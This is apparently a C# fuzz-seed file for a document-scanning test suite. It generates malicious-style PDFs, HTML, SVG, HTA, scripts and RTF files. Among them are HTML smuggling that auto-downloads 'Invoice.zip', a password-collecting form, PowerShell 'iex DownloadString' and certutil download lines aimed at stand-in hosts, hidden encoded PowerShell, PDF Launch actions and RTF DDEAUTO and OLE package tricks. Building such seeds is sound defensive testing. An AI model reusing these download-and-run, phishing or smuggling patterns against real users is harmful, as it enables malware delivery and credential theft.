using System.IO.Compression;
using System.Text;
using Postvakt.Documents.Tests.Building;

namespace Postvakt.Fuzz.Documents;

internal static class PageSeeds
{
    public static IReadOnlyList<string> Words { get; } =
    [
        "%PDF-1.7\n", "1 0 obj\n", "endobj\n", "stream\n", "endstream\n", "xref\n", "trailer << ", "startxref\n", "%%EOF\n", "<<", ">>", "[", "]", "(", ")", "<", ">", "\\(", "\\777", "#4a", "1 0 R", "99999999999 0 R", "/Length 999999999", "/Length -1", "/Filter [/FlateDecode /FlateDecode]", "/ASCII85Decode", "/LZWDecode", "/RunLengthDecode", "/ASCIIHexDecode",
        "/DecodeParms << /Predictor 15 /Columns 2147483647 /Colors 999 /BitsPerComponent 32 >>", "/Predictor 2 /Columns 0", "/ObjStm", "/N 2147483647", "/First -1", "/Encrypt", "/V 5 /R 6", "/Length 128", "/CF << /StdCF << /CFM /AESV3 >> >>", "/JS", "/JavaScript", "/OpenAction", "/Launch", "/URI", "/EmbeddedFile", "/EF", "/XFA", "~>", "z", "s8W-!",
        "<html>", "<script>", "</script>", "<script src=\"", "<form action='https://a.example/'>", "<input type=password>", "<meta http-equiv='refresh' content='0; url=", "<iframe srcdoc=\"", "<svg xmlns=\"http://www.w3.org/2000/svg\">", "<foreignObject>", "href='data:application/zip;base64,UEsDBA==", "onload=", "<!--", "-->", "<![CDATA[", "&#x41;", "&amp;",
        "atob('", "unescape('%", "String.fromCharCode(65,", "eval(", "new Blob([", "new Uint8Array([", "download='a.zip'", "UEsDBBQAAAAIAAAA", "TVqQAAMAAAAEAAAA", "'+'", "\\x41", "\\u0041", ".split('').reverse().join('')", "document.write(", "document.location=", "ActiveXObject('WScript.Shell')", ".Run(", "CreateObject(", "ExecuteGlobal ", "powershell -enc ",
        "IEX ", "[char]65+", "-join", "-replace", "-f 'a'", "{0}{1}", "FromBase64String('", "`", "^", "%a:~0,1%", "set a=b&", "&&", "@echo off\r\n", "#@~^", "==^#~@", "\r\n", "\\bin2147483647 ", "\\bin-1 ", "{\\object", "{\\*\\objdata ", "{\\*\\objclass ", "\\'4", "{\\field{\\*\\fldinst ", "{\\*\\template ", "{\\pict", "{\\*\\datafield ", "\\u-10179?", "{", "}",
        "01050000", "02000000", "FFFFFFFF", "0B000000", "4571756174696F6E2E33", "D0CF11E0A1B11AE1", "\\objupdate", "\\ucs2", "\\",
    ];

    public static IReadOnlyList<byte[]> All()
    {
        var zip = Convert.ToBase64String(ZipMaker.Of("note.txt", ArchiveSeeds.Letters(200)));
        return [.. Papers(), .. Pages(zip), .. Scripts(), .. Texts()];
    }

    private static byte[][] Papers() =>
    [
        Recipe.Raw("a.pdf", "%PDF-1.5\n1 0 obj\n<< /Type /Catalog /OpenAction 2 0 R /Names << /JavaScript 3 0 R >> /Pages 4 0 R >>\nendobj\n2 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n3 0 obj\n<< /S /Launch /Win << /F (cmd.exe) /P (/c echo) >> >>\nendobj\n4 0 obj\n<< /Type /Page /Annots [5 0 R] >>\nendobj\n5 0 obj\n<< /Subtype /Link /A << /S /#55RI /URI (https://a.example/\\(1\\).zip) >> >>\nendobj\ntrailer << /Root 1 0 R /Info << /Title (x) >> >>\n%%EOF\n"),
        Stream("/Type /ObjStm /N 2 /First 10", "2 0 3 46\n  << /S /URI /URI (https://c.example/) >>        << /S /JavaScript /JS 4 0 R >>"u8.ToArray(), "4 0 obj (x) endobj\n"),
        Stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", Zlib("2 0 << /S /URI /URI (https://c.example/) >>"u8.ToArray()), ""),
        Stream("/Type /EmbeddedFile /Filter [/ASCIIHexDecode /FlateDecode]", Encoding.ASCII.GetBytes(Convert.ToHexString(Zlib("<html><hta:application></html>"u8.ToArray())) + ">"), "2 0 obj << /Type /Filespec /UF (bill.hta) /EF << /F 1 0 R >> >> endobj\n"),
        Stream("/Type /EmbeddedFile /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>", Zlib([2, 1, 2, 3, 4, 2, 0, 0, 0, 1, 1, 5, 5, 5, 5, 4, 1, 1, 1, 1]), "2 0 obj << /Type /Filespec /F (a.bin) /EF << /F 1 0 R >> >> endobj\n"),
        Stream("/Type /EmbeddedFile /Filter /ASCII85Decode", "87cURD]i,\"Ebo80~>"u8.ToArray(), "2 0 obj << /Type /Filespec /F (a.txt) /EF << /F 1 0 R >> >> endobj\n"),
        Stream("/Type /EmbeddedFile /Filter /LZWDecode", [0x80, 0x0B, 0x60, 0x50, 0x22, 0x0C, 0x0C, 0x85, 0x01], "2 0 obj << /Type /Filespec /F (a.txt) /EF << /F 1 0 R >> >> endobj\n"),
        Stream("/Type /EmbeddedFile /Filter /RunLengthDecode", [4, .. "hello"u8, 250, (byte)'x', 128], "2 0 obj << /Type /Filespec /F (a.txt) /EF << /F 1 0 R >> >> endobj\n"),
        Stream("/Type /XFA", "<xdp><script>app.launchURL('https://a.example')</script></xdp>"u8.ToArray(),
            $"8 0 obj << /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O <{new string('4', 64)}> /U <{new string('5', 64)}> >> endobj\n7 0 obj << /S /URI /URI (abcd) >> endobj\ntrailer << /Encrypt 8 0 R /ID [<00112233445566778899AABBCCDDEEFF> <00>] >>\n"),
        Stream("/Type /EmbeddedFile", new byte[64],
            $"8 0 obj << /Filter /Standard /V 5 /R 6 /Length 256 /P -4 /CF << /StdCF << /CFM /AESV3 /Length 32 >> >> /StmF /StdCF /StrF /StdCF /O <{new string('4', 96)}> /U <{new string('5', 96)}> /OE <{new string('6', 64)}> /UE <{new string('7', 64)}> /Perms <{new string('8', 32)}> >> endobj\ntrailer << /Encrypt 8 0 R /ID [<00112233445566778899AABBCCDDEEFF> <00>] >>\n"),
        Recipe.Raw("b.pdf", "%PDF-1.7\n1 0 obj << /Type /Catalog /AcroForm << /XFA [(a) 2 0 R] >> >> endobj\n2 0 obj << /Length 5 >> stream\nhello\nendstream endobj\n3 0 obj << /S /GoToR /F (\\\\\\\\a.example\\\\x) >> endobj\nxref\n0 2\n0000000000 65535 f \n0000000009 00000 n \ntrailer << /Root 1 0 R /Size 4 /Prev 0 >>\nstartxref\n9\n%%EOF"),
    ];

    private static byte[][] Pages(string zip) =>
    [
        Recipe.Raw("a.html", $"<html><body><p>Your document is loading</p><script>\nvar d = '{zip[..40]}' + \"{zip[40..80]}\"\n + '{zip[80..]}';\nvar b = new Blob([atob(d)], {{type: 'application/zip'}});\nvar a = document.createElement('a'); a.href = URL.createObjectURL(b); a.download = 'Invoice.zip'; a.click();\n</script></body></html>"),
        Recipe.Raw("b.html", $"<html><script>var d = [{string.Join(',', Convert.FromBase64String(zip))}]; new Uint8Array(d)</script><a download='x.zip' href='data:application/zip;base64,{zip}'>open</a></html>"),
        Recipe.Raw("c.htm", "<html><meta http-equiv='refresh' content='0; url=https://b.example/next'><form action='https://collect.example/p.php'><input type=password name=p></form><iframe src='https://a.example/'></iframe></html>"),
        Recipe.Raw("d.html", "<html><script>document.write(unescape('" + string.Concat("<html><form action='https://c.example/'><input type='password'></form>".Select(c => $"%{(int)c:X2}")) + "')); eval(String.fromCharCode(97,108,101,114,116)); eval(atob('YWxlcnQ='))</script></html>"),
        Recipe.Raw("logo.svg", $"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"x()\"><script><![CDATA[location.href='https://d.example/']]></script><a href=\"data:text/html;base64,PGh0bWw+\"/><foreignObject><iframe src=\"https://a.example\"/></foreignObject><image href=\"data:image/png;base64,{zip}\"/></svg>"),
        Recipe.Raw("a.hta", "<html><hta:application id=a windowstate=minimize><script language=VBScript>CreateObject(\"WScript.Shell\").Run \"x\"</script><script>new ActiveXObject('WScript.Shell').Run('y')</script></html>"),
    ];

    private static byte[][] Scripts() =>
    [
        Recipe.Raw("a.js", "var s = new ActiveXObject('WScr' + 'ipt.Sh' + 'ell'); s.Run('notepad ' + \"\\x41\\u0042\"); var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', 'https://a.exa' + 'mple/1.dat', false); eval(unescape('%61')); String.fromCharCode(104,116,116,112)"),
        Recipe.Raw("a.vbs", "Set s = CreateObject(\"WScript.\" & \"Shell\")\r\nFunction D(t)\r\nFor i = 1 To Len(t) Step 2\r\nD = D & Chr(CLng(\"&H\" & Mid(t, i, 2)))\r\nNext\r\nEnd Function\r\ns.Run D(\"63616C63\"), 0\r\nExecuteGlobal D(\"4D7367426F782031\")\r\n"),
        Recipe.Raw("a.ps1", "i`e`x (New-Object Net.WebClient).DownloadString('https://a.example/x'); $a = [Convert]::FromBase64String('aHR0cHM6Ly9h'); & ('{1}{0}' -f 'x','ie') ([char]104+[char]116); 'abc' -replace 'b','c' -join ''; Start-Process calc"),
        Recipe.Raw("a.bat", "@echo off\r\nset a=power\r\nset b=shell\r\n%a%%b% -nop -w hidden -enc aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AYgA=\r\np^ow^er^sh^ell -c ls & start calc\r\ncertutil -urlcache -f https://a.example/x x.exe\r\n"),
        Recipe.Raw("a.wsf", "<job><script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run \"x\"</script><script language=\"JScript\" src=\"https://a.example/x.js\"/></job>"),
        Recipe.Raw("a.vbe", "#@~^EwAAAA==abc def ghi jkl mno pqr stu==^#~@"),
    ];

    private static byte[][] Texts()
    {
        static string Counted(string text) => Convert.ToHexString([.. BitConverter.GetBytes(text.Length + 1), .. Encoding.Latin1.GetBytes(text + "\0")]);
        static string Embedded(string name, byte[] native) => "01050000" + "02000000" + Counted(name) + "0000000000000000" + Convert.ToHexString(BitConverter.GetBytes(native.Length)) + Convert.ToHexString(native);
        byte[] package = [2, 0, .. "run.js\0C:\\x\0"u8, 0, 0, 3, 0, 5, 0, 0, 0, .. "C:\\y\0"u8, 10, 0, 0, 0, .. "var x = 1;"u8];
        return
        [
            Recipe.Raw("a.rtf", @"{\rtf1\ansi hello {\object\objemb\objupdate{\*\objclass Package}{\*\objdata " + Embedded("Package", package) + "}}}"),
            Recipe.Raw("b.rtf", @"{\rtf1{\object\objemb{\*\objdata " + Embedded("Equation.3", new byte[64]) + @"}}{\*\template https://a.example/t.dotm}{\field{\*\fldinst DDEAUTO ""c:\\\\cmd.exe"" ""/c echo""}{\fldrslt here}}\u8364?\'e4\bin4 ABCD}"),
            Recipe.Raw("c.doc", @"{\rtf1{\object\objautlink{\*\objdata " + Embedded("OLE2Link", new CompoundFileWriter().Stream("\x01Ole10Native", package).ToArray()) + @"}}{\pict\pngblip 89504E470D0A1A0A}{\info{\title x}{\author y}}}"),
        ];
    }

    private static byte[] Zlib(byte[] plain)
    {
        using var stream = new MemoryStream();
        using (var zlib = new ZLibStream(stream, CompressionLevel.NoCompression)) zlib.Write(plain);
        return stream.ToArray();
    }

    private static byte[] Stream(string head, byte[] data, string rest) =>
        Recipe.Raw("s.pdf", [.. Encoding.Latin1.GetBytes($"%PDF-1.5\n1 0 obj\n<< {head} /Length {data.Length} >>\nstream\n"), .. data, .. Encoding.Latin1.GetBytes($"\nendstream\nendobj\n{rest}trailer << /Root 9 0 R >>")]);
}
